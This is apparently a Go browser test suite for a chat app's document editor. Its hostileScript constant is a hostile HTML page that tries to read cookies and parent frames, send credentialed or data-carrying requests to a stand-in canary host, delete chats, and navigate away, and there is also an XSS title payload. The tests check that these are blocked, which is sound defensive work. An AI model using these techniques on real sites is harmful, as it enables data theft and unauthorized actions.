package handlers_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"alleato/ai/model/script"
)

func documentScenes() map[string]scene {
	scenes := map[string]scene{"document/hostile page": hostilePage, "document/hostile text": hostileText, "document/without scripts": documentWithoutScripts}
	for name, where := range map[string]screen{"desktop": desktop, "phone": phoneDark} {
		scenes["document/life "+name] = func(t *testing.T, b *chromium) { documentLife(t, b, where) }
		scenes["document/conflict "+name] = func(t *testing.T, b *chromium) { documentConflict(t, b, where) }
		scenes["document/suggestions "+name] = func(t *testing.T, b *chromium) { documentSuggestions(t, b, where) }
		scenes["document/tool "+name] = func(t *testing.T, b *chromium) { documentTool(t, b, where) }
	}
	return scenes
}

// makes makes a document as the page's visitor, and returns its path.
func (p *tab) makes(kind, title, content string) string {
	p.t.Helper()
	return "/documents/" + get[string](p, fmt.Sprintf(`fetch('/documents', {method: 'POST', headers: {'Content-Type': 'application/json', Accept: 'application/json'},
		body: JSON.stringify({kind: %q, title: %q, content: %q})}).then((r) => r.json()).then((r) => r.document.id)`, kind, title, content))
}

const versionBadge = `[data-testid="artifact-version"]`

func (p *tab) atVersion(n string) {
	p.t.Helper()
	p.until(find(versionBadge) + "?.textContent === 'v" + n + "'")
}

const (
	// editorText is what the open editor holds, as it would be saved.
	editorText = `document.querySelector('#artifact')?.editor?.text()`
	// artifactText is what is shown of a document, whether its editor is open or not yet.
	artifactText = `(document.querySelector('#artifact')?.editor?.text() ?? document.querySelector('[data-testid="artifact-content"]')?.textContent ?? '')`
	savedState   = `document.querySelector('[data-testid="artifact-saved"]')?.textContent`
)

// edit puts a text in the place of what the open editor holds.
func (p *tab) edit(text string) {
	p.t.Helper()
	p.until(editorText + " !== undefined")
	p.click(testid("artifact-editor"))
	p.press("a", chromedp.ModifierCtrl)
	p.press(text)
}

// documentLife: made in the library, written, walked, compared, restored, shared, found and deleted.
func documentLife(t *testing.T, b *chromium, where screen) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, where, "/documents")
	p.until(shown(testid("documents-empty")))
	p.accessible()
	p.click(testid("document-new"))
	p.click(testid("document-new-text"))
	p.until(shown(testid("artifact-editor")))
	p.accessible()
	path := get[string](p, "location.pathname")
	p.edit("See the Mole first.")
	p.until(savedState + " === 'Saved'") // by itself
	p.atVersion("2")
	p.press("s", chromedp.ModifierCtrl) // as a version of its own
	p.atVersion("3")
	p.edit("See the Egyptian museum first.")
	p.until(savedState + " === 'Saved'")
	p.atVersion("4")
	p.accessible()
	p.click(testid("artifact-version-previous"))
	p.atVersion("3")
	p.until(find(testid("artifact-content")) + ".textContent.includes('Mole')")
	p.accessible()
	p.click(testid("artifact-version-next"))
	p.atVersion("4")
	p.until(editorText + "?.includes('Egyptian')")
	p.click(testid("artifact-diff"))
	p.until(find(".diff ins") + "?.textContent.includes('Egyptian museum')")
	p.until(find(".diff del") + "?.textContent.includes('Mole')")
	p.accessible()
	p.click(testid("artifact-back"))
	p.atVersion("4")
	p.click(testid("artifact-menu"))
	p.click(testid("artifact-versions"))
	p.until(fmt.Sprintf("document.querySelectorAll('%s').length === 4", testid("version-row")))
	p.accessible()
	p.click(`[data-version="3"] ` + testid("artifact-restore"))
	p.atVersion("5")
	p.until(editorText + "?.includes('Mole')")

	p.click(testid("artifact-menu"))
	p.click(testid("visibility-selector-item-public"))
	p.until(shown(testid("share-link")))
	p.accessible()
	reader := b.visit(t, s, where, strings.TrimPrefix(get[string](p, find(testid("share-link"))+".value"), s.url))
	reader.until(find(testid("artifact-content")) + "?.textContent.includes('Mole')")
	if get[bool](reader, "Boolean("+find(testid("artifact-edit"))+" || "+find(testid("artifact-menu"))+")") {
		t.Error("a reader is offered to change the document")
	}
	reader.accessible()
	p.click(testid("visibility-selector-item-private"))
	p.until("!" + find(testid("share-link")))
	reader.expect("404")
	reader.reload()
	reader.until(find(testid("error-page")))

	p.open("/documents?q=mole")
	p.until(shown(testid("document-card")))
	p.accessible()
	p.click(testid("document-card") + " .document-link")
	p.until("location.pathname === '" + path + "'")
	p.click(testid("artifact-menu"))
	p.click(testid("artifact-delete"))
	p.until(shown(testid("artifact-delete-ok")))
	p.accessible()
	p.click(testid("artifact-delete-ok"))
	p.until("location.pathname === '/documents'")
	p.until(shown(testid("documents-empty")))
}

// documentConflict: two machines on one document, one saves over the other; nothing is lost.
func documentConflict(t *testing.T, b *chromium, where screen) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, where, "/")
	path := p.makes("text", "Plan", "one")
	p.open(path)
	q := p.elsewhere(b, path)
	p.until(editorText + " === 'one'")
	q.until(editorText + " === 'one'")
	p.edit("mine")
	p.press("s", chromedp.ModifierCtrl)
	p.atVersion("2")
	q.expect("409")
	q.edit("yours")
	q.until(shown(testid("artifact-conflict")))
	if a, b := get[string](q, find(testid("conflict-yours"))+".value"), get[string](q, find(testid("conflict-current"))+".value"); a != "yours" || b != "mine" {
		t.Errorf("the page shows %q and %q", a, b)
	}
	q.accessible()
	q.click(testid("conflict-save"))
	q.atVersion("3")
	for version, text := range map[string]string{"1": "one", "2": "mine", "3": "yours"} {
		q.open(path + "?version=" + version)
		q.until(fmt.Sprintf("(%s ?? %s?.textContent.trim()) === '%s'", editorText, find(testid("artifact-content")), text))
	}
}

// documentSuggestions: accepted, dismissed, and one that no longer fits.
func documentSuggestions(t *testing.T, b *chromium, where screen) {
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, where, "/")
	path := p.makes("text", "Plan", "A big house, a red car, a blue sky.")
	for _, words := range [][2]string{{"big", "large"}, {"red", "green"}, {"red car", "bike"}, {"sky", "sea"}} {
		get[int](p, fmt.Sprintf(`fetch('%s/suggestions', {method: 'POST', headers: {'Content-Type': 'application/json', Accept: 'application/json'},
			body: JSON.stringify({originalText: %q, suggestedText: %q, description: 'Better.'})}).then((r) => r.status)`, path, words[0], words[1]))
	}
	waits := func(n int) {
		t.Helper()
		p.until(fmt.Sprintf("document.querySelectorAll('%s').length === %d", testid("suggestion"), n))
	}
	p.open(path)
	waits(4)
	p.until(editorText + " !== undefined") // whose opening leaves one card on a phone: what is pressed would move away
	p.accessible()
	p.click(testid("suggestion-accept"))
	p.until(editorText + "?.includes('large house')")
	waits(3)
	p.click(testid("suggestion-accept"))
	p.until(editorText + "?.includes('green car')")
	p.until(shown(testid("suggestion-stale")))
	p.accessible()
	p.click(testid("suggestion-dismiss"))
	waits(1)
	p.click(testid("suggestion-accept"))
	p.until(editorText + "?.trim() === 'A large house, a green car, a blue sea.'")
	p.atVersion("4")
	waits(0)
}

// documentTool: the pane opens by itself, the card leads to the document, a page of its own grows too, and
// the reply ends as the page shows it.
func documentTool(t *testing.T, b *chromium, where screen) {
	g, more := newGate(), newGate()
	s := withTools(t, func(r script.Request) script.Reply {
		if strings.HasPrefix(system(r), "Write the document") {
			return staged(stage{nil, script.Words("# Rome\n\nfirst half", 0)}, stage{g, script.Words(" then more", 0)}, stage{more, script.Words(" and the end", 0)})
		}
		return writer(r)
	})
	release(t, g, more)
	p := b.visit(t, s, where, "/")
	p.ask("create it")
	card := replyBody + " " + testid("document-card")
	p.until(shown(testid("artifact")))
	p.accessible()
	q := p.another(get[string](p, find(card)+".getAttribute('href')"))
	q.until(artifactText + ".includes('first half')")
	g.open()
	q.until(artifactText + ".includes('then more')") // by itself
	q.accessible()
	more.open()
	q.until(editorText + "?.includes('and the end')")
	p.finished("complete")
	p.same()
	p.accessible()
	p.click(testid("artifact-close-button"))
	p.click(card)
	p.until(shown(testid("artifact")))
	p.atVersion("1")
	p.click(testid("artifact-close-button"))
	p.until(shown(card))
}

// hostileScript tries everything that could reach out of the frame, tells its parent what came of it, and
// then tries to leave.
const hostileScript = `<!doctype html><title>Page</title>
<link rel=preload as=image href="CANARY/preload"><link rel=prefetch href="CANARY/prefetch"><link rel=stylesheet href="CANARY/sheet"><link rel=icon href="CANARY/icon">
<link rel=preconnect href="CANARY"><link rel=preconnect href="CANARY" crossorigin><link rel=dns-prefetch href="CANARY"><link rel=modulepreload href="CANARY/modulepreload.js"><link rel=prerender href="CANARY/prerender"><link rel=manifest href="CANARY/manifest"><link rel=preload as=font crossorigin href="CANARY/preload-font"><link rel=preload as=script href="CANARY/preload-script">
<script type=speculationrules>{"prefetch":[{"urls":["CANARY/speculated"],"eagerness":"immediate"}],"prerender":[{"urls":["CANARY/prerendered"],"eagerness":"immediate"}]}</script>
<style>@import url(CANARY/import); body { background: url(CANARY/background) } @font-face { font-family: x; src: url(CANARY/font) } p { font-family: x }</style>
<base href="CANARY/base/"><p>Text</p><img src="CANARY/image" srcset="CANARY/set 2x"><video src="CANARY/video" poster="CANARY/poster"><track src="CANARY/track" default></video><audio src="CANARY/audio" autoplay></audio>
<picture><source srcset="CANARY/source"><img></picture><input type=image src="CANARY/input"><iframe srcdoc="<img src='CANARY/srcdoc'><script src='CANARY/srcdoc.js'></script>"></iframe><iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups" src="CANARY/nested"></iframe>
<svg><use href="CANARY/use.svg#a"></use><image href="CANARY/svg-image"></image><filter id=f><feImage href="CANARY/fe"></feImage></filter></svg><p style="background: image-set('CANARY/set-image' 1x); cursor: url(CANARY/cursor), auto; list-style: url(CANARY/list); filter: url(CANARY/filter#f); content: url(CANARY/content)">x</p>
<table background="CANARY/table"><tr><td background="CANARY/td"></table><body background="CANARY/body">
<script src="CANARY/script.js"></script><iframe src="CANARY/frame"></iframe><object data="CANARY/object"></object><embed src="CANARY/embed">
<form id=away action="CANARY/form" method=post><input name=secret value=1></form>
<form id=home action="ORIGIN/documents" method=post target=_top><input name=kind value=text></form>
<script>
const results = {}
const attempt = async (name, act) => {
  try { results[name] = 'did ' + await Promise.race([act(), later(1000).then(() => { throw 0 })]) } catch { results[name] = 'refused' }
}
const later = (ms) => new Promise((done) => setTimeout(done, ms))
;(async () => {
  await attempt('parent', () => parent.document.title)
  await attempt('frames', () => parent.frames[0].document.title + top.document.cookie)
  await attempt('cookie', () => document.cookie)
  await attempt('setCookie', () => { document.cookie = 'a=b'; return document.cookie })
  await attempt('storage', () => localStorage.length)
  await attempt('session', () => sessionStorage.length)
  await attempt('database', () => indexedDB.open('x').transaction)
  await attempt('fetch', () => fetch('CANARY/fetch'))
  await attempt('blind', () => fetch('CANARY/blind', {mode: 'no-cors', method: 'POST', body: 'x'}))
  await attempt('me', () => fetch('ORIGIN/auth/me', {credentials: 'include'}))
  await attempt('meBlind', () => fetch('ORIGIN/chats', {method: 'DELETE', mode: 'no-cors', credentials: 'include'}))
  await attempt('xhr', () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = failed; x.open('GET', 'CANARY/xhr'); x.send() }))
  await attempt('top', () => { top.location.href = 'CANARY/top'; return 'ok' })
  await attempt('popup', () => open('CANARY/popup'))
  await attempt('import', () => import('CANARY/module.js'))
  await attempt('worker', () => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(['importScripts("CANARY/worker")']))); w.onmessage = done; w.onerror = failed }))
  await attempt('webrtc', () => new Promise((done, failed) => {
    const { host } = new URL('CANARY')
    const c = new RTCPeerConnection({iceServers: [{urls: 'turn:' + host + '?transport=tcp', username: 'secret', credential: 'x'}, {urls: 'stun:' + host}]})
    c.createDataChannel('x')
    c.onicecandidate = (e) => e.candidate && e.candidate.type !== 'host' && done('candidate')
    c.createOffer().then((o) => c.setLocalDescription(o)).catch(failed)
  }))
  await attempt('serviceWorker', () => navigator.serviceWorker.register('ORIGIN/assets/app.js').then(() => 'yes'))
  await attempt('sharedWorker', () => new Promise((done, failed) => { const w = new SharedWorker('CANARY/shared.js'); w.port.onmessage = done; w.onerror = failed; w.port.start() }))
  await attempt('popupByLink', () => { const a = Object.assign(document.createElement('a'), {href: 'CANARY/blank', target: '_blank'}); document.body.append(a); a.click(); throw 0 })
  await attempt('popupByForm', () => { const f = Object.assign(document.createElement('form'), {action: 'CANARY/form-blank', target: '_blank'}); document.body.append(f); f.submit(); throw 0 })
  await attempt('parentByName', () => { open('CANARY/named', '_parent'); throw 0 })
  await attempt('clipboard', () => navigator.clipboard.readText())
  try { document.body.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'CANARY'})) } catch {}
  navigator.sendBeacon('CANARY/beacon', 'x')
  try { new WebSocket('CANARY/socket'.replace('http', 'ws')) } catch {}
  try { new EventSource('CANARY/events') } catch {}
  new Image().src = 'CANARY/new-image'
  const a = Object.assign(document.createElement('a'), {href: 'CANARY/link', target: '_top', ping: 'CANARY/ping'})
  document.body.append(a)
  a.click()
  parent.postMessage(results, '*')
  await later(100)
  document.getElementById('away').submit()
  document.getElementById('home').submit()
  await later(100)
  LEAVE
})()
</script>`

// leaves are ways to leave the frame; each ends the page that takes it, by what the browser shows instead.
var leaves = []string{
	"location.href = 'CANARY/self?secret'", "open('CANARY/open?secret', '_self')",
	"Object.assign(document.createElement('a'), {href: 'CANARY/download', download: 'x'}).click()",
	"document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=CANARY/refresh\">'",
}

// hostilePage: a page that a model wrote runs, and reaches nothing.
func hostilePage(t *testing.T, b *chromium) {
	var heard atomic.Int64
	canary := httptest.NewUnstartedServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { t.Logf("the canary heard %s", r.URL) }))
	canary.Config.ConnState = func(_ net.Conn, state http.ConnState) { // a connection without a request tells something too
		if state == http.StateNew {
			heard.Add(1)
		}
	}
	canary.Start()
	t.Cleanup(canary.Close)
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, desktop, "/")
	p.ask("Hi")
	p.finished("complete")
	p.expect(".") // the browser tells of everything that it blocks
	must(call(p, page.AddScriptToEvaluateOnNewDocument.Method, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `if (self === top) addEventListener('message', (e) => { window.told = e.data })`}))
	path := ""
	for _, leave := range leaves {
		path = p.makes("html", "Page", strings.NewReplacer("CANARY", canary.URL, "ORIGIN", s.url).Replace(strings.Replace(hostileScript, "LEAVE", leave, 1)))
		p.open(path)
		p.until("window.told")
		results := get[map[string]string](p, "window.told")
		if len(results) != 23 {
			t.Errorf("%d attempts were told of: %v", len(results), results)
		}
		for name, result := range results {
			if result != "refused" && !(name == "popup" && result == "did null") {
				t.Errorf("%s: %s", name, result)
			}
		}
		time.Sleep(700 * time.Millisecond) // for what it tries last
		if at := get[string](p, "location.pathname"); at != path {
			t.Errorf("the page is at %s", at)
		}
	}
	if n := get[int](p, "fetch('/chats', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.chats.length)"); n != 1 {
		t.Errorf("%d chats are left", n)
	}
	if n := get[int](p, "fetch('/documents', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.documents.length)"); n != len(leaves) {
		t.Errorf("there are %d documents", n)
	}
	if heard.Load() > 0 {
		t.Errorf("the canary heard %d connections", heard.Load())
	}
	p.open(path + "/preview") // not outside of its frame
	p.until(find(testid("error-page")))
	if heard.Load() > 0 {
		t.Error("the canary heard the page that was opened by itself")
	}
}

// hostileText: Markdown, code and sheets full of HTML are text.
func hostileText(t *testing.T, b *chromium) {
	var heard atomic.Int64
	canary := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { heard.Add(1) }))
	t.Cleanup(canary.Close)
	s := playhouse(t, always(script.Say("A reply.")))
	p := b.visit(t, s, phone, "/")
	text := strings.ReplaceAll(attacks, "CANARY", canary.URL)
	for _, kind := range []string{"text", "code", "sheet"} {
		path := p.makes(kind, `"><script>window.hacked = 1</script>`, text)
		for _, where := range []string{path, path + "?edit=1", path + "/diff", path + "/versions", "/documents", "/search?q=hacked"} {
			p.open(where)
			p.until("document.readyState === 'complete'")
			p.narrow()
			// our own editors place what they show by the elements' style
			if get[bool](p, "'hacked' in window || Boolean(document.querySelector('#main :is(script, iframe, object, style, [style]:not(.artifact-host *), [onclick], [onerror])'))") {
				t.Errorf("%s at %s: something of it is live", kind, where)
			}
		}
	}
	if heard.Load() > 0 {
		t.Errorf("the canary heard %d requests", heard.Load())
	}
}
